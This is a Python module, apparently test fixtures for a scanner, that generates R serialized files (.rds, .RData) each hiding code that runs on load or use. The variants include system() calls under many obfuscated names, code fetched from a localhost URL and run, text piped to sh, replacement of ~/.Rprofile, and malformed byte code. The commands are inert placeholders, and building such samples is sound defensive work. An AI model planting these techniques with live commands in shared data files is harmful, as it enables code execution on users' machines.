"""Streams of R (`saveRDS`, `save`), written item by item as R's serialize.c reads them."""

import bz2
import gzip
import lzma
import struct

from .sample import Sample

NULL, GLOBAL, BASE, UNBOUND, MISSING = (struct.pack(">i", code) for code in (254, 253, 241, 252, 251))
HEAD = b"X\n" + struct.pack(">iii", 2, 0x040202, 0x020300)
HEAD_3 = b"X\n" + struct.pack(">iiii", 3, 0x040202, 0x030500, 5) + b"UTF-8"


def number(value):
    return struct.pack(">i", value)


def letters(text):
    return number(0x40009) + number(len(text)) + text.encode()


def name(text):
    return number(1) + letters(text)


def texts(*values):
    return number(16) + number(len(values)) + b"".join(map(letters, values))


def reals(*values):
    return number(14) + number(len(values)) + struct.pack(f">{len(values)}d", *values)


def pairs(sort, items):
    """A list of pairs: each item, or a tag and an item."""
    out = b""
    for item in items:
        tag, value = item if isinstance(item, tuple) else (None, item)
        out += number(sort | (0x400 if tag else 0)) + (name(tag) if tag else b"") + value
        sort = 2
    return out + NULL


def call(callee, *arguments):
    return pairs(6, [callee if isinstance(callee, bytes) else name(callee), *arguments])


def function(body, environment=GLOBAL, **formals):
    return number(0x403) + environment + (pairs(2, list(formals.items())) if formals else NULL) + body


def promise(code, environment=GLOBAL, value=UNBOUND):
    return number(0x405) + environment + value + code


def listed(*items):
    return number(19) + number(len(items)) + b"".join(items)


def environment(frame):
    return number(4) + number(0) + GLOBAL + frame + NULL + NULL


def samples():
    ran = call("system", texts("echo inert"))
    restored = lambda cls, package, state: number(238) + pairs(2, [name(cls), name(package), reals(13)]) + state + NULL
    objects = {
        "promise": (promise(ran), "a promise that runs a command when the object is used"),
        "promise-in-list": (listed(reals(1), promise(ran)), "a promise as an element of a list"),
        "promise-no-environment": (number(5) + UNBOUND + ran, "a promise that runs in the base environment"),
        "promise-harmless-words": (promise(call("paste", texts("a"))), "a promise where R never writes one"),
        "promise-attribute": (number(14 | 0x200) + number(1) + struct.pack(">d", 1) + pairs(2, [("note", promise(ran))]), "a promise as an attribute"),
        "function": (function(ran), "a function that starts a program"),
        "namespace": (function(call(call("::", name("base"), name("system2")), texts("echo"))), "a function that starts a program by its full name"),
        "get": (function(call(call("get", call("paste0", texts("sys"), texts("tem"))), texts("echo inert"))), "the name of the function is put together"),
        "do-call": (function(call("do.call", texts("system"), call("list", texts("echo inert")))), "the function is called by its name as text"),
        "bytes": (function(call(call("match.fun", call("rawToChar", call("as.raw", reals(*b"system")))), texts("echo inert"))), "the name of the function is a list of numbers"),
        "parse": (function(call("eval", call("parse", ("text", texts("system('echo inert')"))))), "text is run as code"),
        "parse-fetched": (function(call("eval", call("parse", ("text", call("readLines", call("url", texts("http://127.0.0.1/x"))))))), "code is fetched and run"),
        "lapply": (function(call("lapply", texts("echo inert"), name("system"))), "the function is given to another one"),
        "alias": (function(call("{", call("<-", name("f"), name("system")), call("f", texts("echo inert")))), "the function gets another name"),
        "default": (function(name("x"), x=ran), "the default of an argument runs a command"),
        "source": (function(call("source", texts("http://127.0.0.1/x.R"))), "code is fetched and run"),
        "library": (function(call("dyn.load", texts("/nonexistent/x.so"))), "a library is loaded"),
        "install": (function(call("install.packages", texts("x"))), "a package is installed"),
        "reversed": (function(call(call("get", call("paste", call("rev", call("[[", call("strsplit", texts("metsys"), texts("")), reals(1))), ("collapse", texts("")))), texts("echo inert"))), "the name of the function is turned around"),
        "translated": (function(call(call("get", call("chartr", texts("abc"), texts("sye"), texts("abatcm"))), texts("echo inert"))), "letters of the name are exchanged"),
        "replaced": (function(call("do.call", call("gsub", texts("[0-9]"), texts(""), texts("s1y2s3t4e5m")), call("list", texts("echo inert")))), "letters are taken out of the name"),
        "printed": (function(call(call("match.fun", call("sprintf", texts("%s%s2"), texts("sys"), texts("tem"))), texts("echo inert"))), "the name is put into a pattern"),
        "hexadecimal": (function(call(call("get", call("rawToChar", call("as.raw", call("strtoi", texts("73", "79", "73", "74", "65", "6d"), reals(16))))), texts("echo inert"))), "the name is written in hexadecimal"),
        "shifted": (function(call(call("get", call("intToUtf8", call("-", reals(*(code + 3 for code in b"system")), reals(3)))), texts("echo inert"))), "the letters of the name are shifted"),
        "picked": (function(call(call("get", call("paste0", call("[", name("letters"), call("c", reals(19), reals(25), reals(19), reals(20), reals(5), reals(13))), ("collapse", texts("")))), texts("echo inert"))), "the name is picked from the alphabet"),
        "variable": (function(call("{", call("<-", name("a"), texts("sys")), call("<-", name("b"), call("paste0", name("a"), texts("tem"))), call(call("get", name("b")), texts("echo inert")))), "the name is in a variable"),
        "unfolded": (function(call(call("get", call("rawToChar", call("memDecompress", number(24) + number(4) + b"BZh9", texts("bzip2")))), texts("echo inert"))), "the name is packed"),
        "cat-pipe": (function(call("cat", texts("echo inert"), ("file", texts("|sh")))), "text is written to a program"),
        "untar": (function(call("untar", texts("/nonexistent/x"), ("tar", texts("sh -c 'echo inert' --")))), "an argument names the program that unpacks"),
        "python": (function(call(call("::", name("reticulate"), name("py_run_string")), texts("import os"))), "Python is run"),
        "profile": (function(call("cat", texts("x"), ("file", texts("~/.Rprofile"))) if False else call("file.copy", texts("x"), texts("~/.Rprofile"))), "the start-up file of R is replaced"),
        "call-in-list": (listed(ran), "a call that a model's method evaluates"),
        "formula": (number(6 | 0x200) + pairs(2, [(".Environment", GLOBAL)]) + name("~") + pairs(2, [name("y"), call("pipe", texts("echo inert"))]), "a formula whose variable is a command"),
        "active": (environment(number(2 | 0x400 | 1 << 27) + name("coef") + function(ran) + NULL), "a variable that runs a command whenever it is read"),
        "mapped": (restored("mmap_integer", "base", pairs(2, [texts("/nonexistent/file"), reals(4)])), "loading it maps a file into memory"),
        "byte-code": (number(0x403) + GLOBAL + NULL + number(21) + number(1) + number(13) + number(2) + number(12) + number(17) + number(2) + number(6) + NULL + number(1) + name("system") + number(2) + NULL + number(16) + texts("echo inert") + number(254) + NULL + number(1) + name("x"), "a compiled function that starts a program"),
        "repeated": (number(21) + number(1) + number(13) + number(1) + number(12) + number(1) + number(244) + number(70000) + number(6) + NULL + number(254) + NULL + number(254) + NULL, "byte code that writes past its table"),
    }
    for title, (item, note) in objects.items():
        yield Sample("r-data", f"{title}.rds", "rds", note, (HEAD_3 if len(title) % 2 else HEAD) + item)
    stream = HEAD_3 + promise(ran)
    yield Sample("r-data", "promise-gzip.rds", "gzip", "the same, packed as saveRDS does", gzip.compress(stream, mtime=0))
    yield Sample("r-data", "promise-bzip2.rds", "bzip2", "the same, packed with bzip2", bz2.compress(stream))
    yield Sample("r-data", "promise-xz.rds", "xz", "the same, packed with xz", lzma.compress(stream))
    first = pairs(2, [(".First", function(call("unlink", texts("/nonexistent/x"))))])
    yield Sample("r-data", "first.RData", "rds", "a function that R runs when it starts with this workspace", b"RDX2\n" + HEAD + first)
    method = pairs(2, [("model", listed(reals(1))), ("print.fitted", function(ran))])
    yield Sample("r-data", "method.RData", "rds", "a method that runs when the model is printed", b"RDX3\n" + HEAD_3 + method)
    text = "A\n2\n262658\n131840\n1029\n253\n252\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n10\necho\\040inert\n254\n"
    yield Sample("r-data", "ascii.rds", "rds", "a promise in a stream of text", text.encode())
    numbers = lambda *values: struct.pack(f"<{len(values)}i", *values)
    native = b"B\n" + numbers(2, 0x040202, 0x020300, 0x405, 253, 252, 6, 1, 0x40009, 6) + b"system" + numbers(2, 16, 1, 0x40009, 10) + b"echo inert" + numbers(254)
    yield Sample("r-data", "native.rds", "rds", "a promise in the order of bytes of the machine", native)
